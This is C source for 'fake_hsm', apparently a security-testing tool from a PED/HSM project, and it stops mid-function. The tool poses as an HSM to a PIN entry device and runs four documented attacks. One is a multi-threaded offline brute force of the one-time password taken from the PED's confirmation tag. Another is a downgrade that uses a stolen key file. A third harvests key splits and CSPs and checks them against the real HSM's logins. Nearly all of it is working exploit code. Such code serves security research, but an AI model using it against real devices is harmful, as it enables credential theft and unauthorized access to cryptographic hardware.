/* fake_hsm: an attacker who plays the HSM to a PED. It dials pedserver's
 * network port as pedclient does (anyone who reaches that port can), greets
 * it with a HELLO of its own choosing (the HSM serial it claims, password or
 * RPV, 2e2s or not), and runs the HSM's end of the channel with its own,
 * self-made HOC and static key. Built on libped (frames, relay messages, EC
 * keys and certificates, the KDF, records, the application messages),
 * libikey (a stolen orange key file) and libhsm (the real HSM's state file,
 * only to say whether what it got would log in).
 *
 *   fake_hsm -connect HOST:PORT -serial HSM_SERIAL -attack ATTACK [options]
 *
 * Attacks (docs/security.md, "Security issue, 2026-12: attacker findings"):
 *   otp-known  a one-time-password session (1e1s) keyed with -password
 *              DIGITS, the password the operator types (shoulder-surfed, or
 *              cracked earlier); then the requests of -ask.
 *   otp-crack  a one-time-password session; the PED confirms first, so its
 *              KEYSHARE_U and CONFIRM_U give tag_U, and the 10^8 passwords
 *              are searched offline on every core (-threads N; -hint LO-HI
 *              searches that range only). Found within -window seconds (the
 *              PED waits 30 s for CONFIRM_V by default), the same session is
 *              finished; else the PED gets an ALERT (its operator reads
 *              "wrong password") and, once found, a second session is keyed
 *              with the password the operator types again. Then -ask.
 *   downgrade  with a stolen copy of a PIN-less orange key (-orange FILE,
 *              repeated for M of N): OPEN with RPV auth and no 2e2s flag,
 *              HELLO_V in 1e1s with the self-made HOC, keyed with the RPV
 *              from the file (the PED's cache or its operator's orange key
 *              supply the PED's side). Then -ask.
 *   rpk-evict  hostile handshakes against a PED that holds the HSM's RPK
 *              (-mode scheme|hello|confirm|alert|cert|realcert, or all): OPEN as the
 *              HSM (RPV auth, 2e2s flag unless 1e1s is needed), then a HELLO_V
 *              of the other scheme, a malformed HELLO_V, a wrong CONFIRM_V,
 *              an ALERT after the PED's tag, or a 2e2s HELLO_V with a
 *              self-made certificate. Whether the PED still holds the RPK is
 *              for the caller to see (pedserver -mode show, the PED's events,
 *              whether the HSM's next session asks for the orange key).
 *
 * -ask LIST (default so,domain,rpv,new-so,new-domain,new-rpv,new-rpv), what
 * the keyed session asks the PED, each as hsm-sim would:
 *   so, domain, rpv, user, audit   AUTH: read that keyset (SPLITS, a CSP)
 *   new-so, new-domain, new-rpv, new-user, new-audit
 *                                  CREATE with reuse allowed, as hsm init and
 *                                  ped vector init ask: the operator either
 *                                  reuses a keyset (REUSED: its secret, a
 *                                  CSP) or writes keys with the attacker's
 *                                  secret (new-rpv: and its RPV static key,
 *                                  certificate and HOC)
 * -state FILE: the real HSM's state file; each secret recovered is compared
 * with its verifiers (SHA-256("OPENPED-CREDENTIAL-v1" || secret)) and RPV.
 *
 * Output: one "request=NAME ..." line per request and one result line per
 * session on stdout:
 *   attack=NAME ped=SERIAL keyed=0|1 scheme=1e1s|2e2s splits=N csps=N
 *   logins=N so_secret_match=0|1 matches=LIST written=N why=ERROR
 *   [mode=MODE] [tag=0|1 password_found=0|1 crack_s=S guesses=N rate=N
 *   range_s=S cpu_s=S range_cpu_s=S threads=N same_session=0|1]
 * splits: key splits the PED sent; csps: CSP records it sent (SPLITS,
 * REUSED); logins: role credentials of the HSM (so, au, po, co, cu) a
 * recovered secret matches; matches: every credential, domain or RPV
 * matched; written: keys the PED wrote with the attacker's secret; why: how
 * the session ended (CKR_OK: the attacker closed it), or what the PED or
 * pedserver answered; tag: the PED's tag_U was captured (the search ran);
 * range_s, range_cpu_s: the whole search range at the
 * rate measured, in seconds and CPU seconds. A session pedserver refuses is
 * a result too (keyed=0). Exit 0 when the attack ran, whatever it obtained;
 * 2 on a usage error or when pedserver cannot be reached at all. */
#include "hsm/hsm.h"
#include "ikey/ikey.h"
#include "ped/app.h"
#include "ped/buf.h"
#include "ped/cert.h"
#include "ped/ec.h"
#include "ped/error.h"
#include "ped/evloop.h"
#include "ped/frame.h"
#include "ped/kas.h"
#include "ped/kdf.h"
#include "ped/link.h"
#include "ped/net.h"
#include "ped/record.h"
#include "ped/relay.h"
#include "ped/shamir.h"

#include <errno.h>
#include <openssl/crypto.h>
#include <openssl/evp.h>
#include <openssl/rand.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <time.h>
#include <unistd.h>

#define ALG_1E1S "OPENPED-KAS-1E1S-P521-SSKDF-SHA512"
#define MAX_ORANGE 16
#define MAX_ASKS 32
#define PW_SPACE 100000000u
#define CHUNK 20000u

/* ---- options ------------------------------------------------------------- */

static struct {
	char host[256];
	uint16_t port;
	char serial[PED_RELAY_ID_MAX + 1];
	const char *attack;
	const char *password;
	uint32_t hint_lo, hint_hi;
	int threads;
	double window;
	const char *orange[MAX_ORANGE];
	int norange;
	const char *state;
	char ask[512];
	const char *mode;
	int timeout_ms;
	const char *show; /* where to write the identity line an operator is shown */
} O = {.hint_hi = PW_SPACE - 1, .window = 20, .timeout_ms = 60000,
       .ask = "so,domain,rpv,new-so,new-domain,new-rpv,new-rpv", .mode = "all"};

static void usage(void)
{
	fprintf(stderr,
		"usage: fake_hsm -connect HOST:PORT -serial HSM_SERIAL -attack otp-known|otp-crack|downgrade|rpk-evict\n"
		"                [-password DIGITS] [-hint LO-HI] [-threads N] [-window SECONDS]\n"
		"                [-orange FILE]... [-state FILE] [-ask LIST] [-mode MODE] [-timeout SECONDS]\n"
		"                [-show FILE]\n");
	exit(2);
}

/* CPU seconds this process has used, every thread */
static double cpu_s(void)
{
	struct rusage ru;
	if (getrusage(RUSAGE_SELF, &ru) != 0)
		return 0;
	return (double)ru.ru_utime.tv_sec + (double)ru.ru_utime.tv_usec / 1e6 + (double)ru.ru_stime.tv_sec +
	       (double)ru.ru_stime.tv_usec / 1e6;
}

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* ---- what the attacker obtained ------------------------------------------ */

static struct {
	unsigned splits, csps, written, logins;
	int so_match, keyed, scheme;
	char matches[256];
	char why[64];
} T;

static struct hsm *real_hsm; /* the HSM's state file, read once */

static void tally_reset(void)
{
	memset(&T, 0, sizeof(T));
	T.scheme = PED_KAS_1E1S;
	snprintf(T.why, sizeof(T.why), "%s", ped_err_name(PED_OK));
}

/* Counts a credential the attacker can now present, once however often. */
static void add_match(const char *name)
{
	char have[sizeof(T.matches) + 2], want[32];
	snprintf(have, sizeof(have), ",%s,", T.matches);
	snprintf(want, sizeof(want), ",%s,", name);
	if (strstr(have, want))
		return;
	size_t n = strlen(T.matches);
	snprintf(T.matches + n, sizeof(T.matches) - n, "%s%s", n ? "," : "", name);
	/* a role's credential is a login; a domain or the RPV is not */
	if (strcmp(name, "domain") && strcmp(name, "rpv"))
		T.logins++;
	if (!strcmp(name, "so"))
		T.so_match = 1;
}

static int cred_is(const struct hsm_credential *c, const uint8_t v[HSM_VERIFIER_LEN])
{
	return c->set && CRYPTO_memcmp(c->verifier, v, HSM_VERIFIER_LEN) == 0;
}

static void append(char *list, size_t cap, const char *name)
{
	size_t n = strlen(list);
	if (!strstr(list, name))
		snprintf(list + n, cap - n, "%s%s", n ? "," : "", name);
}

/* The real HSM's state file (-state), read once into real_hsm. */
static int load_real(void)
{
	char why[512] = "";
	int r;

	if (real_hsm)
		return PED_OK;
	if (!O.state)
		return PED_E_INVALID;
	if (!(real_hsm = calloc(1, sizeof(*real_hsm))))
		return PED_E_HOST_MEMORY;
	if ((r = hsm_load_beside(O.state, real_hsm, why, sizeof(why))) != PED_OK) {
		fprintf(stderr, "fake_hsm: %s: %s\n", O.state, why[0] ? why : ped_strerror(r));
		free(real_hsm);
		real_hsm = NULL;
	}
	return r;
}

/* What a recovered secret opens on the real HSM (out: the names, or
 * "none"); each is added to the tally. */
static void match_secret(const uint8_t *secret, size_t len, char *out, size_t cap)
{
	uint8_t v[HSM_VERIFIER_LEN];
	char found[128] = "";

	snprintf(out, cap, "none");
	if (load_real() != PED_OK)
		return;
	const struct hsm *h = real_hsm;
	hsm_verifier(secret, len, v);
	if (cred_is(&h->so.cred, v))
		append(found, sizeof(found), "so");
	if (cred_is(&h->au.cred, v))
		append(found, sizeof(found), "au");
	if (cred_is(&h->domain, v))
		append(found, sizeof(found), "domain");
	for (uint32_t i = 0; i < h->npartitions; i++) {
		const struct hsm_partition *p = &h->partitions[i];
		if (cred_is(&p->po.cred, v))
			append(found, sizeof(found), "po");
		if (cred_is(&p->co.cred, v))
			append(found, sizeof(found), "co");
		if (cred_is(&p->cu.cred, v))
			append(found, sizeof(found), "cu");
		if (cred_is(&p->domain, v))
			append(found, sizeof(found), "domain");
	}
	if (h->rpv_set && len == HSM_SECRET_LEN && CRYPTO_memcmp(h->rpv, secret, len) == 0)
		append(found, sizeof(found), "rpv");
	OPENSSL_cleanse(v, sizeof(v));
	if (!found[0])
		return;
	snprintf(out, cap, "%s", found);
	char *save = NULL;
	for (char *n = strtok_r(found, ",", &save); n; n = strtok_r(NULL, ",", &save))
		add_match(n);
}

/* ---- the attacker's own HSM identity ------------------------------------- */

struct ident {
	EVP_PKEY *hoc_key, *key;
	X509 *hoc, *cert;
	uint8_t *hoc_der, *cert_der;
	size_t hoc_len, cert_len;
	char id[PED_KAS_ID_MAX + 1];
};

static struct ident I;

static void make_identity(void)
{
	char cn[96];
	snprintf(I.id, sizeof(I.id), "HSM:%.40s", O.serial);
	snprintf(cn, sizeof(cn), "HSM %.40s static", O.serial);
	if (ped_ec_generate(&I.hoc_key) != PED_OK || ped_cert_make_hoc(I.hoc_key, O.serial, &I.hoc) != PED_OK ||
	    ped_ec_generate(&I.key) != PED_OK || ped_cert_issue(I.hoc, I.hoc_key, I.key, cn, &I.cert) != PED_OK ||
	    ped_cert_to_der(I.hoc, &I.hoc_der, &I.hoc_len) != PED_OK ||
	    ped_cert_to_der(I.cert, &I.cert_der, &I.cert_len) != PED_OK) {
		fprintf(stderr, "fake_hsm: cannot make a HOC and static key\n");
		exit(2);
	}
}

/* ---- the connection to pedserver, as pedclient makes it ------------------ */

struct conn {
	int fd;
	struct ped_framer in;
	struct ped_channel *ch;
	char ped[PED_RELAY_ID_MAX + 1];
	int bye;     /* the reason of a BYE that ended it, PED_OK if none */
	int reached; /* pedserver answered (a refusal is a result, not a failure) */
};

static int conn_dial(struct conn *c, uint8_t auth, uint8_t flags)
{
	struct ped_relay_msg h, m;
	uint8_t type, *p = NULL;
	size_t len = 0;
	int r;
	double until = now_s() + 15;

	memset(c, 0, sizeof(*c));
	c->fd = -1;
	for (;;) {
		if ((r = ped_tcp_connect(O.host, O.port, 5000, &c->fd)) != PED_OK) {
			fprintf(stderr, "fake_hsm: cannot reach pedserver %s:%u: %s\n", O.host, O.port, ped_strerror(r));
			return r;
		}
		c->reached = 1;
		memset(&h, 0, sizeof(h));
		h.role = PED_RELAY_ROLE_CLIENT;
		h.purpose = PED_RELAY_SESSION;
		h.auth = auth;
		h.flags = flags;
		snprintf(h.id, sizeof(h.id), "%s", O.serial);
		snprintf(h.version, sizeof(h.version), "pedclient %s", PED_VERSION);
		snprintf(h.info, sizeof(h.info), "fake_hsm");
		ped_framer_init(&c->in, c->fd, PED_FRAME_MAX_PAYLOAD);
		if ((r = ped_relay_send(c->fd, PED_RELAY_HELLO, &h, 5000)) == PED_OK)
			r = ped_framer_recv(&c->in, &type, &p, &len, 10000);
		if (r == PED_OK && type == PED_RELAY_WELCOME && ped_relay_decode(p, len, &m) == PED_OK) {
			snprintf(c->ped, sizeof(c->ped), "%s", m.id);
			OPENSSL_free(p);
			return PED_OK;
		}
		if (r == PED_OK && type == PED_RELAY_BYE && ped_relay_decode(p, len, &m) == PED_OK)
			r = ped_err_from_code(m.code);
		else if (r == PED_OK)
			r = PED_E_FRAME_TYPE;
		if (p)
			OPENSSL_free(p);
		p = NULL;
		ped_framer_free(&c->in);
		close(c->fd);
		c->fd = -1;
		/* the previous session (ours) may still be ending at pedserver */
		if (r != PED_E_BUSY || now_s() > until) {
			fprintf(stderr, "fake_hsm: pedserver refused the session: %s\n", ped_strerror(r));
			return r;
		}
		struct timespec ts = {0, 100 * 1000000L};
		nanosleep(&ts, NULL);
	}
}

/* The next frame for the channel: pedserver's PINGs are answered here (a
 * pedclient's job), a BYE ends the session. */
static int conn_recv(struct conn *c, uint8_t *type, uint8_t **p, size_t *len, int timeout_ms)
{
	uint64_t deadline = ped_now_ms() + (uint64_t)(timeout_ms < 0 ? 0 : timeout_ms);
	for (;;) {
		int left = (int)(deadline > ped_now_ms() ? deadline - ped_now_ms() : 0);
		int r = ped_framer_recv(&c->in, type, p, len, left);
		if (r != PED_OK)
			return r;
		if (*type == PED_RELAY_PING || *type == PED_RELAY_PONG) {
			if (*type == PED_RELAY_PING)
				(void)ped_relay_send_code(c->fd, PED_RELAY_PONG, 0, 5000);
			OPENSSL_clear_free(*p, *len ? *len : 1);
			*p = NULL;
			continue;
		}
		if (*type == PED_RELAY_BYE) {
			struct ped_relay_msg m;
			c->bye = ped_relay_decode(*p, *len, &m) == PED_OK ? ped_err_from_code(m.code) : PED_E_GENERAL;
			if (c->bye == PED_OK)
				c->bye = PED_E_CLOSED;
			OPENSSL_clear_free(*p, *len ? *len : 1);
			*p = NULL;
			return PED_E_CLOSED;
		}
		return PED_OK;
	}
}

/* Answers PINGs for up to ms; PED_E_CLOSED if the session ended meanwhile. */
static int conn_idle(struct conn *c, int ms)
{
	uint8_t type, *p = NULL;
	size_t len = 0;
	int r = conn_recv(c, &type, &p, &len, ms);
	if (r == PED_OK) {
		/* nothing is due from the PED now: anything else ends it */
		OPENSSL_clear_free(p, len ? len : 1);
		return PED_E_FRAME_TYPE;
	}
	return r == PED_E_TIMED_OUT ? PED_OK : r;
}

static int send_kas(struct conn *c, const uint8_t *m, size_t len)
{
	return ped_frame_send(c->fd, PED_LINK_KAS, m, len, 5000);
}

static void send_alert(struct conn *c, int err)
{
	uint8_t a[PED_KAS_ALERT_LEN];
	ped_kas_alert_encode(err, a);
	(void)send_kas(c, a, sizeof(a));
}

static void conn_close(struct conn *c)
{
	if (c->fd < 0)
		return;
	if (c->ch && ped_channel_alive(c->ch)) {
		uint8_t *rec = NULL, b[4] = {0, 0, 0, 0};
		size_t rl = 0;
		if (ped_channel_seal(c->ch, PED_REC_CLOSE, b, sizeof(b), &rec, &rl) == PED_OK) {
			(void)ped_frame_send(c->fd, PED_LINK_RECORD, rec, rl, 1000);
			OPENSSL_free(rec);
		}
	}
	(void)ped_relay_send_code(c->fd, PED_RELAY_BYE, 0, 1000);
	ped_channel_free(c->ch);
	c->ch = NULL;
	ped_framer_free(&c->in);
	close(c->fd);
	c->fd = -1;
}

/* ---- the HSM's side of C(1e, 1s), by hand ---------------------------------- */

struct hs {
	uint8_t *hello, *keyshare;
	size_t hello_len, keyshare_len;
	uint8_t nonce[PED_KAS_NONCE_LEN];
	char id_u[PED_KAS_ID_MAX + 1];
	uint8_t q_eu[PED_EC_POINT_LEN];
	uint8_t tag_u[PED_KAS_TAG_LEN];
	uint8_t z[PED_ECDH_LEN];
	uint8_t th[64]; /* SHA-512(HELLO_V || KEYSHARE_U) */
};

static void hs_free(struct hs *h)
{
	if (h->hello)
		OPENSSL_clear_free(h->hello, h->hello_len);
	if (h->keyshare)
		OPENSSL_clear_free(h->keyshare, h->keyshare_len);
	OPENSSL_cleanse(h, sizeof(*h));
}

/* What HELLO_V presents: the self-made HOC and static certificate, unless
 * these are set (the real HSM's, public, from its state file). */
static const uint8_t *show_cert, *show_hoc;
static size_t show_cert_len, show_hoc_len;

/* HELLO_V: scheme 1 with a nonce, 2 with an ephemeral key; the self-made HOC. */
static int send_hello(struct conn *c, struct hs *h, int scheme)
{
	struct ped_wbuf w;
	uint8_t q[PED_EC_POINT_LEN];
	EVP_PKEY *eph = NULL;
	int r;

	T.scheme = scheme;
	ped_wbuf_init(&w, PED_KAS_MSG_MAX);
	ped_wbuf_u8(&w, PED_KAS_HELLO_V);
	ped_wbuf_u8(&w, PED_KAS_PROTO_VERSION);
	ped_wbuf_u8(&w, (uint8_t)scheme);
	ped_wbuf_lv16(&w, I.id, strlen(I.id));
	ped_wbuf_lv16(&w, show_cert ? show_cert : I.cert_der, show_cert ? show_cert_len : I.cert_len);
	ped_wbuf_lv16(&w, show_hoc ? show_hoc : I.hoc_der, show_hoc ? show_hoc_len : I.hoc_len);
	if (scheme == PED_KAS_1E1S) {
		if (RAND_bytes(h->nonce, sizeof(h->nonce)) != 1) {
			ped_wbuf_free(&w);
			return PED_E_CRYPTO;
		}
		ped_wbuf_bytes(&w, h->nonce, sizeof(h->nonce));
	} else {
		if ((r = ped_ec_generate(&eph)) != PED_OK || (r = ped_ec_pub_export(eph, q)) != PED_OK) {
			EVP_PKEY_free(eph);
			ped_wbuf_free(&w);
			return r;
		}
		EVP_PKEY_free(eph);
		ped_wbuf_bytes(&w, q, sizeof(q));
	}
	if ((r = ped_wbuf_take(&w, &h->hello, &h->hello_len)) != PED_OK)
		return r;
	return send_kas(c, h->hello, h->hello_len);
}

/* The PED's KEYSHARE_U and CONFIRM_U (or its ALERT); Z from our static key. */
static int read_u(struct conn *c, struct hs *h, int timeout_ms)
{
	uint8_t type, *p = NULL;
	size_t len = 0;
	EVP_PKEY *peer = NULL;
	int r;

	for (int want = PED_KAS_KEYSHARE_U; want <= PED_KAS_CONFIRM_U; want++) {
		if ((r = conn_recv(c, &type, &p, &len, timeout_ms)) != PED_OK)
			return r;
		if (type != PED_LINK_KAS || len == 0) {
			r = PED_E_FRAME_TYPE;
		} else if (p[0] == PED_KAS_ALERT) {
			r = ped_kas_alert_error(p, len);
		} else if (p[0] != want) {
			r = PED_E_HANDSHAKE;
		} else if (want == PED_KAS_KEYSHARE_U) {
			struct ped_rbuf rb;
			size_t n = 0;
			const uint8_t *id, *q;
			ped_rbuf_init(&rb, p, len);
			ped_rbuf_u8(&rb);
			id = ped_rbuf_lv16(&rb, PED_KAS_ID_MAX, &n);
			q = ped_rbuf_bytes(&rb, PED_EC_POINT_LEN);
			r = id && q && ped_rbuf_end(&rb) == PED_OK ? PED_OK : PED_E_HANDSHAKE;
			if (r == PED_OK) {
				memcpy(h->id_u, id, n);
				h->id_u[n] = '\0';
				memcpy(h->q_eu, q, sizeof(h->q_eu));
				h->keyshare = p;
				h->keyshare_len = len;
				p = NULL;
			}
		} else if (len != 1 + PED_KAS_TAG_LEN) {
			r = PED_E_HANDSHAKE;
		} else {
			memcpy(h->tag_u, p + 1, PED_KAS_TAG_LEN);
			r = PED_OK;
		}
		if (p)
			OPENSSL_clear_free(p, len ? len : 1);
		p = NULL;
		if (r != PED_OK)
			return r;
	}
	if ((r = ped_ec_pub_import(h->q_eu, sizeof(h->q_eu), &peer)) != PED_OK ||
	    (r = ped_ecdh_into(I.key, peer, h->z)) != PED_OK) {
		EVP_PKEY_free(peer);
		return r;
	}
	EVP_PKEY_free(peer);
	unsigned int thl = 0;
	EVP_MD_CTX *md = EVP_MD_CTX_new();
	if (!md || EVP_DigestInit_ex(md, EVP_sha512(), NULL) != 1 ||
	    EVP_DigestUpdate(md, h->hello, h->hello_len) != 1 ||
	    EVP_DigestUpdate(md, h->keyshare, h->keyshare_len) != 1 || EVP_DigestFinal_ex(md, h->th, &thl) != 1)
		r = PED_E_CRYPTO;
	EVP_MD_CTX_free(md);
	return r;
}

/* FixedInfo of docs/protocol.md section 5, 1e1s, with secret last. */
static int fixed_info(const struct hs *h, const uint8_t *secret, size_t slen, uint8_t **fi, size_t *fil)
{
	struct ped_wbuf w;
	uint8_t ver[2] = {0, PED_KAS_PROTO_VERSION}, lbits[4] = {0, 0, (PED_KAS_DKM_LEN * 8) >> 8,
								  (PED_KAS_DKM_LEN * 8) & 0xff};
	ped_wbuf_init(&w, 4096);
	ped_wbuf_lv32(&w, ALG_1E1S, strlen(ALG_1E1S));
	ped_wbuf_lv32(&w, h->id_u, strlen(h->id_u));
	ped_wbuf_lv32(&w, h->q_eu, sizeof(h->q_eu));
	ped_wbuf_lv32(&w, I.id, strlen(I.id));
	ped_wbuf_lv32(&w, h->nonce, sizeof(h->nonce));
	ped_wbuf_lv32(&w, ver, sizeof(ver));
	ped_wbuf_lv32(&w, h->th, sizeof(h->th));
	ped_wbuf_lv32(&w, lbits, sizeof(lbits));
	ped_wbuf_lv32(&w, secret, slen);
	return ped_wbuf_take(&w, fi, fil);
}

/* MacData: "KC_1_U" || ID_U || ID_V || Q_eU || nonce_V, or V's. */
static int mac_data(const struct hs *h, char who, uint8_t **md, size_t *mdl)
{
	struct ped_wbuf w;
	ped_wbuf_init(&w, 1024);
	ped_wbuf_bytes(&w, who == 'U' ? "KC_1_U" : "KC_1_V", 6);
	if (who == 'U') {
		ped_wbuf_bytes(&w, h->id_u, strlen(h->id_u));
		ped_wbuf_bytes(&w, I.id, strlen(I.id));
		ped_wbuf_bytes(&w, h->q_eu, sizeof(h->q_eu));
		ped_wbuf_bytes(&w, h->nonce, sizeof(h->nonce));
	} else {
		ped_wbuf_bytes(&w, I.id, strlen(I.id));
		ped_wbuf_bytes(&w, h->id_u, strlen(h->id_u));
		ped_wbuf_bytes(&w, h->nonce, sizeof(h->nonce));
		ped_wbuf_bytes(&w, h->q_eu, sizeof(h->q_eu));
	}
	return ped_wbuf_take(&w, md, mdl);
}

/* With the secret known: checks tag_U, sends CONFIRM_V, makes the channel
 * and waits for the PED's READY. */
static int finish_v(struct conn *c, struct hs *h, const uint8_t *secret, size_t slen)
{
	uint8_t *fi = NULL, *md = NULL, dkm[PED_KAS_DKM_LEN], tag[PED_KAS_TAG_LEN], msg[1 + PED_KAS_TAG_LEN];
	size_t fil = 0, mdl = 0;
	struct ped_channel_keys keys;
	int r;

	if ((r = fixed_info(h, secret, slen, &fi, &fil)) != PED_OK ||
	    (r = ped_sskdf_sha512(h->z, sizeof(h->z), fi, fil, dkm, sizeof(dkm))) != PED_OK ||
	    (r = mac_data(h, 'U', &md, &mdl)) != PED_OK || (r = ped_hmac_sha512(dkm, 64, md, mdl, tag)) != PED_OK)
		goto out;
	if (CRYPTO_memcmp(tag, h->tag_u, sizeof(tag)) != 0) {
		send_alert(c, PED_E_KEY_CONFIRM);
		r = PED_E_KEY_CONFIRM;
		goto out;
	}
	OPENSSL_clear_free(md, mdl);
	md = NULL;
	if ((r = mac_data(h, 'V', &md, &mdl)) != PED_OK || (r = ped_hmac_sha512(dkm, 64, md, mdl, tag)) != PED_OK)
		goto out;
	msg[0] = PED_KAS_CONFIRM_V;
	memcpy(msg + 1, tag, sizeof(tag));
	if ((r = send_kas(c, msg, sizeof(msg))) != PED_OK)
		goto out;
	/* DKM: mac_key, then U to V (dek, dmk, cwk), then V to U; we are V */
	const uint8_t *d = dkm + 64;
	memcpy(keys.rx.dek, d, PED_DEK_LEN), d += PED_DEK_LEN;
	memcpy(keys.rx.dmk, d, PED_DMK_LEN), d += PED_DMK_LEN;
	memcpy(keys.rx.cwk, d, PED_CWK_LEN), d += PED_CWK_LEN;
	memcpy(keys.tx.dek, d, PED_DEK_LEN), d += PED_DEK_LEN;
	memcpy(keys.tx.dmk, d, PED_DMK_LEN), d += PED_DMK_LEN;
	memcpy(keys.tx.cwk, d, PED_CWK_LEN);
	r = ped_channel_new(&keys, &c->ch);
	ped_channel_keys_cleanse(&keys);
	if (r != PED_OK)
		goto out;
	uint8_t type, *p = NULL, rt, *pt = NULL;
	size_t len = 0, ptl = 0;
	if ((r = conn_recv(c, &type, &p, &len, O.timeout_ms)) != PED_OK)
		goto out;
	if (type == PED_LINK_KAS)
		r = ped_kas_alert_error(p, len);
	else if (type != PED_LINK_RECORD)
		r = PED_E_FRAME_TYPE;
	else if ((r = ped_channel_open(c->ch, p, len, &rt, &pt, &ptl)) == PED_OK && rt != PED_REC_READY)
		r = PED_E_HANDSHAKE;
	if (pt)
		OPENSSL_clear_free(pt, ptl ? ptl : 1);
	OPENSSL_clear_free(p, len ? len : 1);
out:
	OPENSSL_cleanse(dkm, sizeof(dkm));
	OPENSSL_cleanse(tag, sizeof(tag));
	if (fi)
		OPENSSL_clear_free(fi, fil);
	if (md)
		OPENSSL_clear_free(md, mdl);
	return r;
}

/* ---- the offline search for the one-time password ------------------------ */

static struct {
	const struct hs *h;
	uint8_t *prefix; /* u32 1 || Z || FixedInfo up to the password's 8 digits */
	size_t prefix_len;
	uint8_t *macdata;
	size_t macdata_len;
	uint32_t lo, hi; /* inclusive */
	atomic_uint_fast64_t next; /* next chunk's first guess, from lo */
	atomic_uint_fast64_t guesses;
	atomic_int found, done_threads;
	char pw[9];
	pthread_mutex_t mu;
	int nthreads;
	pthread_t tid[256];
	double started, ended;
} C = {.mu = PTHREAD_MUTEX_INITIALIZER};

static void *crack_thread(void *arg)
{
	EVP_MD *sha = EVP_MD_fetch(NULL, "SHA512", NULL);
	EVP_MD_CTX *base = EVP_MD_CTX_new(), *x = EVP_MD_CTX_new();
	uint8_t k[64], pad[128], inner[64], tag[64];
	char pw[9];
	uint64_t mine = 0;
	(void)arg;

	if (!sha || !base || !x || EVP_DigestInit_ex2(base, sha, NULL) != 1 ||
	    EVP_DigestUpdate(base, C.prefix, C.prefix_len) != 1)
		goto out;
	while (!atomic_load(&C.found)) {
		uint64_t first = atomic_fetch_add(&C.next, CHUNK);
		if (first > C.hi)
			break;
		uint64_t last = first + CHUNK - 1 > C.hi ? C.hi : first + CHUNK - 1;
		snprintf(pw, sizeof(pw), "%08u", (unsigned)first);
		for (uint64_t g = first; g <= last; g++) {
			/* mac_key = K(1) = SHA-512(1 || Z || FixedInfo(password)) */
			if (EVP_MD_CTX_copy_ex(x, base) != 1 || EVP_DigestUpdate(x, pw, 8) != 1 ||
			    EVP_DigestFinal_ex(x, k, NULL) != 1)
				goto out;
			/* tag_U = HMAC-SHA-512(mac_key, MacData) */
			for (int i = 0; i < 64; i++)
				pad[i] = k[i] ^ 0x36;
			memset(pad + 64, 0x36, 64);
			if (EVP_DigestInit_ex2(x, sha, NULL) != 1 || EVP_DigestUpdate(x, pad, 128) != 1 ||
			    EVP_DigestUpdate(x, C.macdata, C.macdata_len) != 1 || EVP_DigestFinal_ex(x, inner, NULL) != 1)
				goto out;
			for (int i = 0; i < 64; i++)
				pad[i] = k[i] ^ 0x5c;
			memset(pad + 64, 0x5c, 64);
			if (EVP_DigestInit_ex2(x, sha, NULL) != 1 || EVP_DigestUpdate(x, pad, 128) != 1 ||
			    EVP_DigestUpdate(x, inner, 64) != 1 || EVP_DigestFinal_ex(x, tag, NULL) != 1)
				goto out;
			mine++;
			if (memcmp(tag, C.h->tag_u, 8) == 0 && CRYPTO_memcmp(tag, C.h->tag_u, 64) == 0) {
				pthread_mutex_lock(&C.mu);
				memcpy(C.pw, pw, 9);
				atomic_store(&C.found, 1);
				pthread_mutex_unlock(&C.mu);
				break;
			}
			/* the next password, as decimal digits */
			for (int i = 7; i >= 0 && ++pw[i] > '9'; i--)
				pw[i] = '0';
		}
	}
out:
	atomic_fetch_add(&C.guesses, mine);
	OPENSSL_cleanse(k, sizeof(k));
	OPENSSL_cleanse(pad, sizeof(pad));
	EVP_MD_CTX_free(base);
	EVP_MD_CTX_free(x);
	EVP_MD_free(sha);
	pthread_mutex_lock(&C.mu);
	if (atomic_fetch_add(&C.done_threads, 1) + 1 == C.nthreads)
		C.ended = now_s();
	pthread_mutex_unlock(&C.mu);
	return NULL;
}

static int crack_start(const struct hs *h)
{
	uint8_t *fi = NULL, probe[8] = "00000000";
	size_t fil = 0;
	int r;

	C.h = h;
	if ((r = fixed_info(h, probe, 8, &fi, &fil)) != PED_OK || (r = mac_data(h, 'U', &C.macdata, &C.macdata_len)) != PED_OK)
		return r;
	C.prefix_len = 4 + sizeof(h->z) + fil - 8;
	if (!(C.prefix = OPENSSL_malloc(C.prefix_len)))
		return PED_E_HOST_MEMORY;
	memcpy(C.prefix, "\0\0\0\1", 4);
	memcpy(C.prefix + 4, h->z, sizeof(h->z));
	memcpy(C.prefix + 4 + sizeof(h->z), fi, fil - 8);
	OPENSSL_clear_free(fi, fil);
	C.lo = O.hint_lo;
	C.hi = O.hint_hi;
	atomic_store(&C.next, C.lo);
	C.nthreads = O.threads;
	C.started = now_s();
	for (int i = 0; i < C.nthreads; i++)
		if (pthread_create(&C.tid[i], NULL, crack_thread, NULL) != 0) {
			fprintf(stderr, "fake_hsm: cannot start search thread %d\n", i);
			exit(2);
		}
	return PED_OK;
}

static int crack_finished(void)
{
	return atomic_load(&C.found) || atomic_load(&C.done_threads) == C.nthreads;
}

static void crack_join(void)
{
	for (int i = 0; i < C.nthreads; i++)
		pthread_join(C.tid[i], NULL);
	if (!C.ended)
		C.ended = now_s();
	OPENSSL_clear_free(C.prefix, C.prefix_len);
	OPENSSL_clear_free(C.macdata, C.macdata_len);
	C.prefix = C.macdata = NULL;
}

/* ---- the application, once the channel is up ----------------------------- */

static int send_rec(struct conn *c, uint8_t type, const uint8_t *m, size_t len)
{
	uint8_t *rec = NULL;
	size_t rl = 0;
	int r = type == PED_REC_CSP ? ped_channel_seal_csp(c->ch, m, len, &rec, &rl)
				    : ped_channel_seal(c->ch, type, m, len, &rec, &rl);
	if (r != PED_OK)
		return r;
	r = ped_frame_send(c->fd, PED_LINK_RECORD, rec, rl, 5000);
	OPENSSL_free(rec);
	return r;
}

static int recv_rec(struct conn *c, uint8_t *rt, uint8_t **pt, size_t *len)
{
	uint8_t type, *p = NULL, *plain = NULL;
	size_t pl = 0, plen = 0;
	int r;

	*pt = NULL;
	*len = 0;
	if ((r = conn_recv(c, &type, &p, &pl, O.timeout_ms)) != PED_OK)
		return r;
	if (type != PED_LINK_RECORD)
		r = PED_E_FRAME_TYPE;
	else if ((r = ped_channel_open(c->ch, p, pl, rt, &plain, &plen)) == PED_OK) {
		if (*rt == PED_REC_CLOSE)
